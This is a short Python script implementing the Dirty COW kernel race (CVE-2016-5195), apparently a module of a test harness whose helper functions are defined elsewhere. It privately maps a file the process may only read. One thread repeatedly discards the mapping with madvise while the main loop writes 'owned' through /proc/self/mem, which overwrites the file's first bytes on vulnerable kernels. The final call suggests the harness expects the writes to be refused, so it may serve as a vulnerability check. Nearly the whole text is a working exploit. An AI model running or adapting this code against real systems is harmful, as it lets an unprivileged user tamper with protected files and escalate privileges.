# CVE-2016-5195: a race between writing to a private page and giving it back.
import mmap, threading
FILE = ARGS["file"]
control(not os.access(FILE, os.W_OK) and os.access(FILE, os.R_OK), "the file is not one it may only read")
size = os.path.getsize(FILE)
fd = os.open(FILE, os.O_RDONLY)
LIBC.mmap.restype = ctypes.c_void_p
page = LIBC.mmap(ctypes.c_void_p(0), ctypes.c_size_t(4096), 1, 2, fd, ctypes.c_long(0))
control(page not in (None, ctypes.c_void_p(-1).value), "the file cannot be mapped")
end = time.monotonic() + ARGS["seconds"]
def give_back():
    while time.monotonic() < end:
        for _ in range(200):
            LIBC.madvise(ctypes.c_void_p(page), ctypes.c_size_t(4096), 4)
other = threading.Thread(target=give_back)
other.start()
count = 0
memory = os.open("/proc/self/mem", os.O_RDWR)
while time.monotonic() < end:
    for _ in range(200):
        try:
            os.pwrite(memory, b"owned", page)
            count += 1
        except OSError:
            pass
other.join()
refused(f"{count} writes")
